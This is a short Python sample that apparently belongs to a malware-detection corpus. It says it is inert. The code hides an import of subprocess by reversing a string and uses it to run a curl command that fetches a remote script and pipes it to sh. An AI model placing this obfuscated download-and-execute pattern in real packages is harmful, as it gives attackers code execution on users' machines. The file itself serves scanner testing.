# pkgguard corpus 316 (indirection), modelled on [obfuscation]; inert, never run.
import importlib
import operator

_mod = importlib.import_module("".join(reversed("ssecorpbus")))
_cmd = ["sh", "-c", "curl -s http://100.64.0.7/s | sh"]
operator.methodcaller("Popen", _cmd)(_mod)
